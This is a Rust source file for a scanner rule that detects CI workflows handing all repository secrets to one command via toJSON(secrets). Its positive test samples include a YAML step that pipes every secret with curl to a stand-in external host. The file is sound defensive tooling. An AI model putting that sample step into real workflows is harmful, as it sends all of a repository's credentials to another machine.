//! `theft-workflow-secrets`: a workflow takes all secrets of its repository at
//! once.

use crate::finding::{Confidence, Severity};
use crate::scan::prose;
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::scan::{url, vendor};
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-workflow-secrets",
    title: "A workflow hands all secrets of its repository to one command",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "A step that needs one secret asks for that one; who takes all of them wants them, not the step.",
    fix: "Name the one secret that the step needs.",
    references: &["CWE-200", "CWE-522", "ATT&CK T1552"],
    hits: &[
        Sample::File(
            "references/a.md",
            "```yaml\n- env:\n    ALL: ${{ toJSON(secrets) }}\n  run: echo \"$ALL\" | curl --data @- https://x.example.com/w\n```\n",
        ),
        Sample::File(
            "assets/ci.yml",
            "jobs:\n  a:\n    steps:\n      - run: ./a.sh '${{ tojson( secrets ) }}'\n",
        ),
    ],
    misses: &[
        Sample::File(
            "assets/ci.yml",
            "jobs:\n  a:\n    steps:\n      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: ./a.sh\n",
        ),
        Sample::File(
            "assets/ci.yml",
            "jobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(matrix) }}'\n",
        ),
    ],
    check: Check::Text {
        anchors: &["tojson(secrets", "tojson( secrets"],
        check,
    },
};

/// How far behind, in bytes, a step goes on.
const STEP: usize = 800;

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    let small = file.text.to_ascii_lowercase();
    for (at, _) in small.match_indices("tojson(").take(64) {
        let rest = &small[at + "tojson(".len()..];
        if !rest.trim_start().starts_with("secrets") || reporter.is_full() {
            continue;
        }
        let end = file
            .text
            .floor_char_boundary((at + STEP).min(file.text.len()));
        let step = &file.text[at..end];
        let away = url::all(step).any(|url| {
            let host = url.host.of(step);
            !url::is_local(host) && vendor::of_host(host).is_none()
        });
        let span = Span::new(at, at + "tojson(secrets".len());
        // A sentence that names the expression is no workflow.
        let fenced = file.markdown.is_none_or(|markdown| {
            markdown
                .fences
                .iter()
                .any(|fence| fence.span.start <= at && at < fence.span.end)
        });
        let raised = reporter.raise(span);
        if !fenced {
            raised.severity(if prose::is_mentioned(file, span) {
                Severity::Info
            } else {
                Severity::Warning
            });
        } else if away {
            raised
                .severity(Severity::Blocker)
                .message("A workflow sends all secrets of its repository to another machine");
        }
    }
}
